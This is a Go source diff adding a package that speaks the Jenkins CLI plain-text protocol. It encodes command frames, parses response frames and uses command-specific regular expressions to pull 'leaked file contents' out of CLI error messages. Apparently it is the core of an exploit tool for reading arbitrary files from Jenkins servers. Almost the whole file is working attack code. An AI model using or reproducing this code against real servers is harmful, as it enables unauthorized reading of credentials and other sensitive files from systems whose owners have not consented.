@@ -0,0 +1,144 @@
+package protocol
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// 以下为 jenkins-cli 明文协议的操作码 (hudson.cli.PlainCLIProtocol.Op)
+const (
+	OpArg    byte = 0
+	OpLocale byte = 1
+	OpStart  byte = 3
+	OpExit   byte = 4
+)
+
+// exitFrame is the prefix of the exit frame terminating a response
+var exitFrame = []byte{0x00, 0x00, 0x00, 0x04, OpExit, 0x00, 0x00}
+
+// EncodeRequest encodes the upload side body running command with the given arguments
+func EncodeRequest(command string, args ...string) []byte {
+	dataBytes := []byte{}
+	dataBytes = append(dataBytes, encodeFrame(OpArg, command)...)
+	for _, arg := range args {
+		dataBytes = append(dataBytes, encodeFrame(OpArg, arg)...)
+	}
+	dataBytes = append(dataBytes, encodeFrame(OpLocale, "UTF-8")...)
+	dataBytes = append(dataBytes, 0x00, 0x00, 0x00, 0x00, OpStart)
+	return dataBytes
+}
+
+// encodeFrame encodes a frame carrying a java writeUTF string
+func encodeFrame(op byte, value string) []byte {
+	length := len(value)
+	frame := []byte{0x00, 0x00}
+	frame = append(frame, []byte{byte((length + 2) >> 8), byte((length + 2) & 0xff)}...)
+	frame = append(frame, op)
+	frame = append(frame, []byte{byte(length >> 8), byte(length & 0xff)}...)
+	frame = append(frame, []byte(value)...)
+	return frame
+}
+
+// IsResponse reports whether body is a complete download side response
+func IsResponse(body []byte) bool {
+	return len(body) > 7 && bytes.HasPrefix(body[1:len(body)-1], []byte{0x00, 0x00}) && bytes.HasSuffix(body[1:len(body)-1], []byte{0x00, 0x00, 0x00, 0x04, 0x04, 0x00, 0x00, 0x00})
+}
+
+// DecodeResponse returns the concatenated output of a complete download side response
+func DecodeResponse(body []byte) ([]byte, error) {
+	if !IsResponse(body) {
+		return nil, fmt.Errorf("invalid response")
+	}
+	return ParseFrames(body[1 : len(body)-1])
+}
+
+// ParseFrames concatenates the payload of the output frames until the exit frame
+func ParseFrames(data []byte) ([]byte, error) {
+	var datas []byte
+	if len(data) < 7 {
+		return nil, fmt.Errorf("invalid length: %d", len(data))
+	}
+	for len(data) >= 7 {
+		if bytes.Equal(data[:7], exitFrame) {
+			break
+		}
+
+		data = data[2:]
+		lengthBytes := data[:2]
+
+		// 将 lengthBytes 转换为 10 进制
+		length := binary.BigEndian.Uint16(lengthBytes)
+		if int(length)+3 > len(data) {
+			return nil, fmt.Errorf("invalid length: exceeds available data")
+		}
+
+		datas = append(datas, data[3:3+length]...)
+		data = data[3+length:]
+	}
+	return datas, nil
+}
+
+var (
+	whoamiCommandRegexData      = regexp.MustCompile(`ERROR: (?:No argument is allowed: )? ?((?:No such file: )?.*)\njava -jar jenkins-cli.jar who-am-i`)
+	helpCommandRegexData        = regexp.MustCompile(`ERROR: (?:Too many arguments: )?((?:No such file: )?.*)\njava -jar jenkins-cli.jar help`)
+	reloadJobCommandRegexData   = regexp.MustCompile(`ERROR: (.*)\njava -jar jenkins-cli.jar reload-job|No such item \x3f(.*?)\x3f `)
+	versionCommandRegexData     = regexp.MustCompile(`ERROR: (?:No argument is allowed: )? ?((?:No such file: )?.*)\njava -jar jenkins-cli.jar version`)
+	connectNodeCommandRegexData = regexp.MustCompile(`ERROR: (.*)\njava -jar jenkins-cli.jar connect-node|No such agent "(.*?)" `)
+)
+
+// ExtractFile extracts the leaked file contents from the output of command
+func ExtractFile(command string, parseData []byte) []byte {
+	switch command {
+	case "who-am-i":
+		rg := whoamiCommandRegexData.FindSubmatch(parseData)
+		if len(rg) > 1 {
+			parseData = rg[1]
+		}
+	case "help":
+		rg := helpCommandRegexData.FindSubmatch(parseData)
+		if len(rg) > 1 {
+			parseData = rg[1]
+		}
+	case "version":
+		rg := versionCommandRegexData.FindSubmatch(parseData)
+		if len(rg) > 1 {
+			parseData = rg[1]
+		}
+	case "reload-job":
+		parseData = joinMatches(reloadJobCommandRegexData, parseData)
+	case "connect-node":
+		parseData = joinMatches(connectNodeCommandRegexData, parseData)
+	}
+	return parseData
+}
+
+func joinMatches(regex *regexp.Regexp, parseData []byte) []byte {
+	matches := regex.FindAllSubmatch(parseData, -1)
+	if len(matches) == 0 {
+		return parseData
+	}
+	parseData = []byte{}
+	for _, match := range matches {
+		for _, group := range match[1:] {
+			if len(group) > 0 {
+				parseData = append(parseData, group...)
+				parseData = append(parseData, []byte("\n")...)
+			}
+		}
+	}
+	return bytes.TrimSuffix(parseData, []byte("\n"))
+}
+
+// ExtractAvailableCommands extracts the command names from the output of help
+func ExtractAvailableCommands(body string) (commands []string) {
+	bodys := strings.Split(body, "\n")
+	for _, line := range bodys {
+		if strings.HasPrefix(line, "  ") && !strings.HasPrefix(line, "    ") {
+			commands = append(commands, strings.TrimSpace(line))
+		}
+	}
+	return
+}